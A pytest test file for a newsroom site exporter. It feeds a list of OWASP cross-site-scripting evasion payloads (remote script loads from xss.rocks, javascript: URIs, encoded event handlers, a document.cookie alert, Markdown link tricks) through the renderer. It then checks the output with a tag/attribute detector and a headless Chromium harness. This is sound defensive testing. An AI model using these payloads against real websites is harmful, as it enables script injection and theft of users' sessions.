"""OWASP filter-evasion vectors in article bodies and metadata produce no executable content in
the exported site: checked by parsing every page, and by loading the pages in headless Chromium
with a harness that records any script run (alert/confirm/prompt or an inline handler)."""

from __future__ import annotations

import re
import shutil
import subprocess
from html.parser import HTMLParser
from pathlib import Path

import pytest

from app.core.domain import Contributor
from app.publish.render import render_body
from app.publish.site.export import STATE_DIR, export_site
from tests.publish.test_site_export import channel_id, publish_article

# The classic filter-evasion cheat sheet (OWASP), plus Markdown-specific ones.
VECTORS = [
    "<SCRIPT SRC=http://xss.rocks/xss.js></SCRIPT>",
    "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=javascript:alert('XSS')>",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
    "<a onmouseover=\"alert(document.cookie)\">xxs link</a>",
    "<IMG \"\"\"><SCRIPT>alert(\"XSS\")</SCRIPT>\"\\>",
    "<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>",
    "<IMG SRC=# onmouseover=\"alert('xxs')\">",
    "<IMG SRC=/ onerror=\"alert(String.fromCharCode(88,83,83))\"></img>",
    "<img src=x onerror=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112"
    "&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083"
    "&#0000083&#0000039&#0000041\">",
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;"
    "&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
    "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28"
    "&#x27&#x58&#x53&#x53&#x27&#x29>",
    "<IMG SRC=\"jav\tascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
    "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
    "<SCRIPT/XSS SRC=\"http://xss.rocks/xss.js\"></SCRIPT>",
    "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(\"XSS\")>",
    "<<SCRIPT>alert(\"XSS\");//\\<</SCRIPT>",
    "<SCRIPT SRC=http://xss.rocks/xss.js?< B >",
    "<IMG SRC=\"`<javascript:alert>`('XSS')\"",
    "<iframe src=http://xss.rocks/scriptlet.html <",
    "\\\";alert('XSS');//",
    "</TITLE><SCRIPT>alert(\"XSS\");</SCRIPT>",
    "<INPUT TYPE=\"IMAGE\" SRC=\"javascript:alert('XSS');\">",
    "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
    "<IMG DYNSRC=\"javascript:alert('XSS')\">",
    "<svg/onload=alert('XSS')>",
    "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>",
    "<BR SIZE=\"&{alert('XSS')}\">",
    "<LINK REL=\"stylesheet\" HREF=\"javascript:alert('XSS');\">",
    "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:alert('XSS');\">",
    "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K\">",
    "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
    "<FRAMESET><FRAME SRC=\"javascript:alert('XSS');\"></FRAMESET>",
    "<TABLE BACKGROUND=\"javascript:alert('XSS')\">",
    "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">",
    "<DIV STYLE=\"width: expression(alert('XSS'));\">",
    "<OBJECT TYPE=\"text/x-scriptlet\" DATA=\"http://xss.rocks/scriptlet.html\"></OBJECT>",
    "<EMBED SRC=\"data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dHA6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0i"
    "aHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciPjxzY3JpcHQ+YWxlcnQoIlhTUyIpOzwvc2NyaXB0Pjwvc3ZnPg==\" "
    "type=\"image/svg+xml\" AllowScriptAccess=\"always\"></EMBED>",
    "<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->",
    "<BASE HREF=\"javascript:alert('XSS');//\">",
    "<form><button formaction=javascript:alert(1)>X</button></form>",
    "<details open ontoggle=alert(1)>",
    "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
    "<a href=\"&#1;javascript:alert(1)\">x</a>",
    "<img src=x onerror=alert(1)//",
    "<video><source onerror=\"alert(1)\"></video>",
    "<object data=\"javascript:alert(1)\">",
    # Markdown's own ways in
    "[点我](javascript:alert(1))",
    "[点我](JaVaScRiPt:alert(1))",
    "[点我](javascript&#58;alert(1))",
    "[点我](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![图](javascript:alert(1))",
    "![图](x\" onerror=\"alert(1))",
    "<javascript:alert(1)>",
    "[a](vbscript:msgbox(1))",
    "段落 {: onclick=\"alert(1)\" }",
]

SCHEME = re.compile(r"^\s*(javascript|vbscript|data|livescript|mocha)\s*:", re.I)
URL_ATTRS = {"href", "src", "action", "formaction", "background", "dynsrc", "lowsrc", "data", "xlink:href",
             "poster", "srcset"}
FORBIDDEN_TAGS = {"script", "iframe", "frame", "frameset", "object", "embed", "applet", "base", "form",
                  "button", "input", "svg", "math", "style", "details", "video", "audio", "source", "bgsound"}


def test_there_are_enough_vectors():
    assert len(VECTORS) >= 40


class Inspector(HTMLParser):
    """Every tag and attribute that could run script."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []

    def handle_starttag(self, tag, attrs):
        self._check(tag, attrs)

    def handle_startendtag(self, tag, attrs):
        self._check(tag, attrs)

    def _check(self, tag, attrs):
        if tag in FORBIDDEN_TAGS:
            self.problems.append(f"<{tag}>")
        for name, value in attrs:
            value = value or ""
            if name.startswith("on"):
                self.problems.append(f"<{tag} {name}>")
            if name == "style":
                self.problems.append(f"<{tag} style>")
            if name in URL_ATTRS and SCHEME.match(value):
                if not (tag == "img" and name == "src" and value.startswith("data:image/")):
                    self.problems.append(f"<{tag} {name}={value[:30]}>")
            if tag == "meta" and name == "http-equiv" and value.lower() == "refresh":
                self.problems.append("<meta refresh>")
            if tag == "link" and name == "href" and not re.match(r"^(https?://|(\.\./)*[a-z0-9./-]+\.(css|xml)$)", value):
                self.problems.append(f"<link {value[:30]}>")


def inspect(html: str) -> list[str]:
    p = Inspector()
    p.feed(html)
    p.close()
    return p.problems


@pytest.mark.parametrize("vector", VECTORS)
def test_each_vector_rendered_alone_is_inert(vector):
    assert inspect(render_body(vector)) == []
    assert inspect(render_body(f"正文\n\n{vector}\n\n结尾")) == []


@pytest.fixture(scope="module")
def xss_site(tmp_path_factory, templates):
    """A newsroom whose published articles carry every vector in body and metadata."""
    from app.core.db import Database
    from app.core.services import Services

    url = templates.sqlite_db("demo")
    db = Database(url)
    svc = Services.create(db)
    out = tmp_path_factory.mktemp("xss") / "site"
    body = "\n\n".join(f"第{i}条：{v}" for i, v in enumerate(VECTORS))
    jc = channel_id(svc, "泾川新闻")
    publish_article(svc, title="全部向量", body=body, dateline="本报讯", primary_channel_id=jc,
                    keywords=["安宁区", "社区服务"])
    short = [v for v in VECTORS if len(v) <= 64]
    for i, v in enumerate(VECTORS[:24]):
        src = svc.admin.ensure_source(None, f"来源{i}{v}"[:128], "javascript:alert(1)")
        publish_article(
            svc, title=(v[:180] + f"#{i}"), pretitle=v[:200], subtitle=v[:200], summary=v, dateline=v[:60],
            body=f"正文{i}", origin="reprint", source_id=src.id, source_url="javascript:alert(1)",
            original_author="作者", original_title="原标题", primary_channel_id=jc, is_hot=True,
            contributors=[Contributor("记者", short[i % len(short)]), Contributor("摄影", "王忠德")],
            keywords=[short[(i + 1) % len(short)], "安宁区"])
    export_site(svc, out)
    yield svc, out
    db.dispose()


def site_pages(out: Path) -> list[Path]:
    return [p for p in out.rglob("*") if p.suffix in (".html", ".xml") and STATE_DIR not in p.parts]


def test_exported_pages_have_no_executable_content(xss_site):
    svc, out = xss_site
    pages = site_pages(out)
    assert len(pages) > 20
    found_vectors = 0
    for p in pages:
        text = p.read_text("utf-8")
        if p.suffix == ".xml":
            from xml.etree import ElementTree
            ElementTree.fromstring(text.encode())  # still well-formed XML: everything escaped
            assert "<script" not in text.lower()
            continue
        assert inspect(text) == [], (p, inspect(text))
        # the page's own markup: exactly one <title>, one CSP, no script anywhere
        assert text.count("<title>") == 1 and text.lower().count("<script") == 0
        if "alert" in text:
            found_vectors += 1
    assert found_vectors > 10  # the vectors are there, as text


def _chromium() -> str | None:
    return shutil.which("chromium") or shutil.which("chromium-browser") or shutil.which("google-chrome")


HARNESS = ("<script>(function(){function hit(){document.documentElement.setAttribute('data-pwned','1');}"
           "window.alert=window.confirm=window.prompt=hit;})();</script>")


PWNED = re.compile(r"<html[^>]*\bdata-pwned=")


def _dump_dom(browser: str, page: Path, tmp: Path) -> str:
    cmd = [browser, "--headless", "--no-sandbox", "--disable-gpu", "--disable-background-networking",
           "--disable-component-update", "--no-first-run", "--disable-extensions", "--allow-file-access-from-files",
           f"--user-data-dir={tmp / 'chromium-profile'}", "--virtual-time-budget=3000", "--dump-dom",
           page.as_uri()]
    r = subprocess.run(cmd, capture_output=True, text=True, timeout=90)
    assert r.returncode == 0, r.stderr[-2000:]
    return r.stdout


def _armed(src: Path, dest: Path) -> Path:
    """The page with the test's recorder first in <head> and the Content-Security-Policy taken out,
    so what is checked is the sanitiser, not the CSP behind it."""
    html = src.read_text("utf-8")
    html = re.sub(r'<meta http-equiv="Content-Security-Policy"[^>]*>', "", html)
    html = html.replace("<head>", "<head>" + HARNESS, 1)
    dest.write_text(html, "utf-8")
    return dest


@pytest.mark.skipif(_chromium() is None, reason="chromium is not installed: the in-browser half is not run")
def test_pages_run_no_script_in_headless_chromium(xss_site, tmp_path):
    svc, out = xss_site
    browser = _chromium()
    assert browser
    # the harness itself must catch a script: an unsanitised control page trips it
    control = out / "jingchuan" / "control-unsanitised.html"
    control.write_text("<!DOCTYPE html><html><head><title>c</title></head><body>"
                       "<img src=x onerror=alert(1)><svg/onload=alert(2)></body></html>", "utf-8")
    dom = _dump_dom(browser, _armed(control, control), tmp_path)
    control.unlink()
    assert PWNED.search(dom), "the harness did not notice a running script"

    manifest = (out / STATE_DIR / "manifest.json").read_text("utf-8")
    vector_pages = [p for p in out.rglob("*.html") if STATE_DIR not in p.parts and "alert" in p.read_text("utf-8")]
    all_vectors = next(p for p in vector_pages if "全部向量" in p.read_text("utf-8") and "/20" in p.as_posix()
                       and p.name != "index.html")
    chosen = [all_vectors, out / "index.html", out / "jingchuan" / "index.html"]
    chosen += [p for p in vector_pages if p not in chosen and re.search(r"/\d+\.html$", p.as_posix())][:3]
    assert manifest and len(chosen) >= 5
    for page in chosen:
        armed = _armed(page, page.with_name(page.stem + ".armed.html"))
        dom = _dump_dom(browser, armed, tmp_path)
        armed.unlink()
        assert not PWNED.search(dom), f"script ran in {page}"
        assert "<body" in dom  # the page loaded
